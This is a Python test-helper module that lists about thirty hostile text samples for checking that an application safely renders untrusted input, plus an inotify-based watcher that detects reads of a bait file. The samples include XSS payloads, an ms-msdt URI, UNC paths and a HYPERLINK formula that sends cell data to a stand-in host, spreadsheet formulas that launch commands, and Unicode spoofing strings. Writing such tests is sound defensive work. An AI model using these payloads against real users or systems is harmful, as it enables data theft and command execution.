"""Thirty texts that are up to no good, and a file that tells who touched it."""

from __future__ import annotations

import ctypes
import os
import sys
from pathlib import Path

import pytest

_ACCESS, _OPEN = 0x1, 0x20  # of inotify(7)


def hostile_texts(bait: Path) -> tuple[str, ...]:
    """Texts that reach for `bait`, for a host, or for the reader's trust."""
    file = bait.as_uri()
    return (
        f'<img src="{file}">',
        f"<img src='{bait}'><b>bold</b>",
        f'<link rel="stylesheet" href="{file}"><style>@import url({file});</style>',
        f'<object data="{file}"></object><iframe src="{file}"></iframe>',
        '<a href="javascript:alert(1)">Sign in again</a>',
        '<img src="https://hostile.example/x.png">',
        "<script>alert(1)</script>",
        "</title></style></textarea><svg onload=alert(1)>",
        "<!--<qt>--><h1>Saved</h1>",
        "&lt;b&gt;&#60;img&#62;&amp;&nbsp;",
        "javascript:alert(document.cookie)",
        file,
        "\\\\hostile.example\\share\\x.png",
        "//hostile.example/share/x.png",
        "ms-msdt:/id PCWDiagnostic /skip force",
        "data:text/html,<b>x</b>",
        f"![x]({file}) [y](javascript:alert(1)) **bold**",
        "room\u202egnp.exe",
        "\u2066left\u2069 \u200fright\u200e",
        "pay\u200bpal\u2060 \ufeffroom",
        "a\x00b\x07c\x1b[31mred\x7f",
        "one\r\ntwo\u2028three\x0bfour",
        '=HYPERLINK("https://hostile.example/?"&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "\uff1d1+1",
        "{customer_name} {0} {{what}} %s %1 %n",
        "{{ 7 * 7 }}{% for x in y %}{% endfor %}",
        f'#image("{bait}") #read("{bait}") $x^2$ *bold* @ref <label>',
        "`Save` `` ` & &File &&",
        "half a sign \ud800 and \udfff",
        "W" * 3_000,
    )


class Touched:
    """Whether anybody opened or read a file since, the kernel says so: not our own code alone."""

    def __init__(self, file: Path) -> None:
        if sys.platform != "linux":
            pytest.skip("only Linux' inotify is known here")
        self._kernel = ctypes.CDLL(None, use_errno=True)
        self._handle = self._kernel.inotify_init1(os.O_NONBLOCK)
        assert self._handle >= 0
        watched = self._kernel.inotify_add_watch(
            self._handle, os.fsencode(file), ctypes.c_uint32(_ACCESS | _OPEN)
        )
        assert watched >= 0

    def was(self) -> bool:
        """Asked again, it tells of what happened since."""
        try:
            return bool(os.read(self._handle, 65_536))
        except BlockingIOError:
            return False

    def close(self) -> None:
        os.close(self._handle)
